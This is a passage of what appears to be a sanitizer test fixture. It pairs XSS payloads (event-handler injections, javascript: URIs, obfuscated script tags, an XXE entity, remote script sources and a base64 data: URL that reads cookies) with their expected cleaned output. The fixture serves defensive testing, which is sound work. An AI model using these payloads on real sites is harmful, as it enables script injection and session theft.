    html: '<style>@keyframes x{from {left:0;}to {left: 1000px;}}:target {animation:10s ease-in-out 0s 1 x;}</style><marquee id=x style="position:absolute;" onanimationcancel="alert(1)"></marquee>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes x{from {left:0;}to {left: 1000px;}}:target {animation:10s ease-in-out 0s 1 x;}</style><object id=x style="position:absolute;" onanimationcancel="alert(1)"></object>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes x{from {left:0;}to {left: 1000px;}}:target {animation:10s ease-in-out 0s 1 x;}</style><rb id=x style="position:absolute;" onanimationcancel="alert(1)"></rb>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes x{from {left:0;}to {left: 1000px;}}:target {animation:10s ease-in-out 0s 1 x;}</style><small id=x style="position:absolute;" onanimationcancel="alert(1)"></small>',
    cleaned: '<small id="x"></small>',
  },
  {
    html: '<style>@keyframes x{from {left:0;}to {left: 1000px;}}:target {animation:10s ease-in-out 0s 1 x;}</style><tbody id=x style="position:absolute;" onanimationcancel="alert(1)"></tbody>',
    cleaned: '<tbody id="x"></tbody>',
  },
  {
    html: '<style>@keyframes x{from {left:0;}to {left: 1000px;}}:target {animation:10s ease-in-out 0s 1 x;}</style><u id=x style="position:absolute;" onanimationcancel="alert(1)"></u>',
    cleaned: '<u id="x"></u>',
  },
  {
    html: '<style>@keyframes x{}</style><address style="animation-name:x" onanimationend="alert(1)"></address>',
    cleaned: '<address></address>',
  },
  {
    html: '<style>@keyframes x{}</style><b style="animation-name:x" onanimationend="alert(1)"></b>',
    cleaned: '<b></b>',
  },
  {
    html: '<style>@keyframes x{}</style><big style="animation-name:x" onanimationend="alert(1)"></big>',
    cleaned: '<big></big>',
  },
  {
    html: '<style>@keyframes x{}</style><canvas style="animation-name:x" onanimationend="alert(1)"></canvas>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes x{}</style><colgroup style="animation-name:x" onanimationend="alert(1)"></colgroup>',
    cleaned: '<colgroup></colgroup>',
  },
  {
    html: '<style>@keyframes x{}</style><del style="animation-name:x" onanimationend="alert(1)"></del>',
    cleaned: '<del></del>',
  },
  {
    html: '<style>@keyframes x{}</style><dl style="animation-name:x" onanimationend="alert(1)"></dl>',
    cleaned: '<dl></dl>',
  },
  {
    html: '<style>@keyframes x{}</style><figcaption style="animation-name:x" onanimationend="alert(1)"></figcaption>',
    cleaned: '<figcaption></figcaption>',
  },
  {
    html: '<style>@keyframes x{}</style><frameset style="animation-name:x" onanimationend="alert(1)"></frameset>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes x{}</style><html style="animation-name:x" onanimationend="alert(1)"></html>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes x{}</style><ins style="animation-name:x" onanimationend="alert(1)"></ins>',
    cleaned: '<ins></ins>',
  },
  {
    html: '<style>@keyframes x{}</style><li style="animation-name:x" onanimationend="alert(1)"></li>',
    cleaned: '<li></li>',
  },
  {
    html: '<style>@keyframes x{}</style><marquee style="animation-name:x" onanimationend="alert(1)"></marquee>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes x{}</style><nav style="animation-name:x" onanimationend="alert(1)"></nav>',
    cleaned: '<nav></nav>',
  },
  {
    html: '<style>@keyframes x{}</style><object style="animation-name:x" onanimationend="alert(1)"></object>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes x{}</style><param style="animation-name:x" onanimationend="alert(1)"></param>',
    cleaned: '',
  },
  { html: '<style>@keyframes x{}</style><rb style="animation-name:x" onanimationend="alert(1)"></rb>', cleaned: '' },
  {
    html: '<style>@keyframes x{}</style><samp style="animation-name:x" onanimationend="alert(1)"></samp>',
    cleaned: '<samp></samp>',
  },
  {
    html: '<style>@keyframes x{}</style><small style="animation-name:x" onanimationend="alert(1)"></small>',
    cleaned: '<small></small>',
  },
  {
    html: '<style>@keyframes x{}</style><style style="animation-name:x" onanimationend="alert(1)"></style>',
    cleaned: '',
  },
  {
    html: '<style>@keyframes x{}</style><tbody style="animation-name:x" onanimationend="alert(1)"></tbody>',
    cleaned: '<tbody></tbody>',
  },
  {
    html: '<style>@keyframes x{}</style><thead style="animation-name:x" onanimationend="alert(1)"></thead>',
    cleaned: '<thead></thead>',
  },
  {
    html: '<style>@keyframes x{}</style><u style="animation-name:x" onanimationend="alert(1)"></u>',
    cleaned: '<u></u>',
  },
  { html: '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(1)"></xss>', cleaned: '' },
  { html: '<sub id=x tabindex=1 onfocusin=alert(1)></sub>', cleaned: '<sub id="x"></sub>' },
  { html: '<summary draggable="true" ondragenter="alert(1)">test</summary>', cleaned: '<summary>test</summary>' },
  {
    html: '<summary onblur=alert(1) tabindex=1 id=x></summary><input autofocus>',
    cleaned: '<summary id="x"></summary>',
  },
  { html: '<svg id=x tabindex=1 ondeactivate=alert(1)></svg><input id=y autofocus>', cleaned: '' },
  { html: '<svg><a onload=alert(1)></a>', cleaned: '<a></a>' },
  { html: '<svg><article onload=alert(1)></article>', cleaned: '<article></article>' },
  { html: '<svg><br onload=alert(1)></br>', cleaned: '<br>' },
  { html: '<svg><datalist onload=alert(1)></datalist>', cleaned: '' },
  { html: '<svg><em onload=alert(1)></em>', cleaned: '<em></em>' },
  { html: '<svg><hr onload=alert(1)></hr>', cleaned: '<hr>' },
  { html: '<svg><main onload=alert(1)></main>', cleaned: '<main></main>' },
  { html: '<svg><noembed onload=alert(1)></noembed>', cleaned: '' },
  { html: '<svg><picture onload=alert(1)></picture>', cleaned: '<picture></picture>' },
  { html: '<svg><section onload=alert(1)></section>', cleaned: '<section></section>' },
  { html: '<svg><strong onload=alert(1)></strong>', cleaned: '<strong></strong>' },
  { html: '<svg><time onload=alert(1)></time>', cleaned: '<time></time>' },
  { html: '<td id=x tabindex=1 onfocus=alert(1)></td>', cleaned: '<td id="x"></td>' },
  { html: '<tfoot id=x tabindex=1 onactivate=alert(1)></tfoot>', cleaned: '<tfoot id="x"></tfoot>' },
  { html: '<th id=x tabindex=1 onfocus=alert(1)></th>', cleaned: '<th id="x"></th>' },
  { html: '<tt id=x tabindex=1 onfocus=alert(1)></tt>', cleaned: '<tt id="x"></tt>' },
  { html: '<ul id=x tabindex=1 onactivate=alert(1)></ul>', cleaned: '<ul id="x"></ul>' },
  { html: '<var id=x tabindex=1 onfocus=alert(1)></var>', cleaned: '<var id="x"></var>' },
  {
    html: '<video autoplay controls onseeked=alert(1)><source src="validvideo.mp4" type="video/mp4"></video>',
    cleaned: '<video controls=""><source src="validvideo.mp4" type="video/mp4"></video>',
  },
  {
    html: '<video oncanplay=alert(1)><source src="validvideo.mp4" type="video/mp4"></video>',
    cleaned: '<video><source src="validvideo.mp4" type="video/mp4"></video>',
  },
  { html: '<wbr draggable="true" ondragend="alert(1)">test</wbr>', cleaned: '<wbr>test' },
  { html: '<<scr\\0ipt/src=http://xss.com/xss.js></script', cleaned: '&lt;' },
  { html: "<script>alert(document.documentElement.innerHTML.match(/'([^']%2b)/)[1])</script>", cleaned: '' },
  {
    html: "<script> document.getElementById(%22safe123%22).click=function()+{alert(Safe.get());} document.getElementById(%22safe123%22).click({'type':'click','isTrusted':true}); </script>",
    cleaned: '',
  },
  {
    html: "<script> location.href = 'data:text/html;base64,PHNjcmlwdD54PW5ldyBYTUxIdHRwUmVxdWVzdCgpO3gub3BlbigiR0VUIiwiaHR0cDovL3hzc21lLmh0bWw1c2VjLm9yZy94c3NtZTIvIix0cnVlKTt4Lm9ubG9hZD1mdW5jdGlvbigpIHsgYWxlcnQoeC5yZXNwb25zZVRleHQubWF0Y2goL2RvY3VtZW50LmNvb2tpZSA9ICcoLio/KScvKVsxXSl9O3guc2VuZChudWxsKTs8L3NjcmlwdD4='; </script>",
    cleaned: '',
  },
  { html: "<textarea id=ta onfocus=%22write('<script>alert(1)</script>')%22 autofocus></textarea>", cleaned: '' },
  { html: '<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">X</a>', cleaned: '<a>X</a>' },
  { html: '<input type="text" value=``<div/onmouseover=\'alert(1)\'>X</div>', cleaned: 'X' },
  {
    html: "<script>~'\\u0061' ;  \\u0074\\u0068\\u0072\\u006F\\u0077 ~ \\u0074\\u0068\\u0069\\u0073.  \\u0061\\u006C\\u0065\\u0072\\u0074(~'\\u0061')</script U+",
    cleaned: '',
  },
  { html: '<div/onmouseover=\'alert(1)\'> style="x:">', cleaned: '<div> style="x:"&gt;</div>' },
  { html: "'';!--\"<XSS>=&{()}", cleaned: "'';!--\"=&amp;{()}" },
  { html: '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">', cleaned: '' },
  { html: '<IMG DYNSRC="javascript:alert(\'XSS\')">', cleaned: '' },
  { html: '<IMG SRC="livescript:[code]">', cleaned: '' },
  { html: '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">', cleaned: '' },
  { html: '<HTML><BODY>', cleaned: '' },
  { html: '<sCriPt x>(((confirm)))``</scRipt x>', cleaned: '' },
  { html: '<sCriPt/src=//14.rs?', cleaned: '' },
  { html: '<!-- IE9+, FF4+, Opera 11.60+, Safari 4.0.4+, GC7+  -->', cleaned: '' },
  {
    html: '<div id="64"><!DOCTYPE x[<!ENTITY x SYSTEM "http://html5sec.org/test.xxe">]><y>&x;</y>//["\'`-->]]>]</div><div id="65"><svg onload="javascript:alert(65)" xmlns="http://www.w3.org/2000/svg"></svg>//["\'`-->]]>]</div>',
    cleaned: '<div id="64">]&gt;&amp;x;//["\'`--&gt;]]&gt;]</div><div id="65">//["\'`--&gt;]]&gt;]</div>',
  },
  { html: '<animation xlink:href="javascript:alert(88)"/>', cleaned: '' },
  { html: '<!-- Up to Opera 11.64 - see link below -->', cleaned: '' },
  {
    html: '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(94)</handler>',
    cleaned: 'alert(94)',
  },
  { html: "<script>d.innerHTML+='';</script>//[\"'`-->]]>]</div>", cleaned: '//["\'`--&gt;]]&gt;]' },
  {
    html: '<div id="105"><iframe src="data:image/svg-xml,%1F%8B%08%00%00%00%00%00%02%03%B3)N.%CA%2C(Q%A8%C8%CD%C9%2B%B6U%CA())%B0%D2%D7%2F%2F%2F%D7%2B7%D6%CB%2FJ%D77%B4%B4%B4%D4%AF%C8(%C9%CDQ%B2K%CCI-*%D10%D4%B4%D1%87%E8%B2%03"></iframe>//["\'`-->]]>]</div><div id="106"><img src onerror /" \'"= alt=alert(106)//">//["\'`-->]]>]</div><div id="107"><title onpropertychange=alert(107)></title><title title=></title>//["\'`-->]]>]</div>',
    cleaned:
      '<div id="105">//["\'`--&gt;]]&gt;]</div><div id="106">//["\'`--&gt;]]&gt;]</div><div id="107">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="111"><div style="background:url(/f#[a]oo/;color:red/*/foo.jpg);">X</div>//["\'`-->]]>]</div><div id="112"><div style="font-family:foo{bar;background:url(http://foo.f/oo};color:red/*/foo.jpg);">X</div>//["\'`-->]]>]</div>',
    cleaned: '<div id="111"><div>X</div>//["\'`--&gt;]]&gt;]</div><div id="112"><div>X</div>//["\'`--&gt;]]&gt;]</div>',
  },
  { html: '</a>//["\'`-->]]>]</div>', cleaned: '//["\'`--&gt;]]&gt;]' },
  { html: '</html>//["\'`-->]]>]</div>', cleaned: '//["\'`--&gt;]]&gt;]' },
  { html: '<svg xmlns="http://www.w3.org/2000/svg">', cleaned: '' },
  {
    html: '<label>type a,b,c,d - watch the network tab/traffic (JS is off, latest NoScript)</label>',
    cleaned: 'type a,b,c,d - watch the network tab/traffic (JS is off, latest NoScript)',
  },
  { html: '*{color:red}</style>//["\'`-->]]>]</div>', cleaned: '*{color:red}//["\'`--&gt;]]&gt;]' },
  { html: '<input type="submit">', cleaned: '' },
  { html: '<form><button formaction="javascript:alert(1)">', cleaned: '' },
];
